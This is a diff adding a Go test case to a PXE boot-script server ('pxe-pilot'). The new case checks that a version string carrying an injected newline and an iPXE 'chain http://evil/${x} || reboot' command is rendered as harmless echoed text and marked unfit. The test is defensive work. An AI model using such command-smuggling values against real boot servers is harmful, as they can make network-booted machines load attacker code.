@@ -210,6 +210,8 @@ func TestBootScript(t *testing.T) {
 			want: "#!ipxe\necho pxe-pilot: this machine boots by UEFI with iPXE 1.0.0+git-20190125.36a4c85-5.1, too old"},
 		{name: "efi_ipxe_from_git_before_loadfile2_is_unfit", files: goodConfig(), query: mac + "&platform=efi&version=1.21.1%2Bgit-20220113.fbbdc3926-0ubuntu1", wantLog: []string{"boot=unfit"},
 			want: "#!ipxe\necho pxe-pilot: this machine boots by UEFI with iPXE 1.21.1+git-20220113.fbbdc3926-0ubuntu1, too old"},
+		{name: "injected_version_shows_as_text_and_is_unfit", files: goodConfig(), query: mac + "&platform=efi&version=1.0.0%2B%0Achain%20http://evil/$%7Bx%7D%20%7C%7C%20reboot", wantLog: []string{"boot=unfit"},
+			want: "#!ipxe\necho pxe-pilot: this machine boots by UEFI with iPXE 1.0.0+ chain http://evil/x  reboot, too old"},
 		{name: "efi_ipxe_from_git_after_loadfile2_installs", files: goodConfig(), query: mac + "&platform=efi&version=1.21.1%2Bgit20250501.42e58d6-1", want: bootInstall, wantLog: []string{"boot=install"}},
 		{name: "efi_ipxe_built_after_1_21_1_installs", files: goodConfig(), query: mac + "&platform=efi&version=1.21.1%2B%20%28g4bffe%29", want: bootInstall, wantLog: []string{"boot=install"}},
 		{name: "efi_ipxe_2_installs", files: goodConfig(), query: mac + "&platform=efi&version=2.0.0", want: bootInstall, wantLog: []string{"boot=install"}},
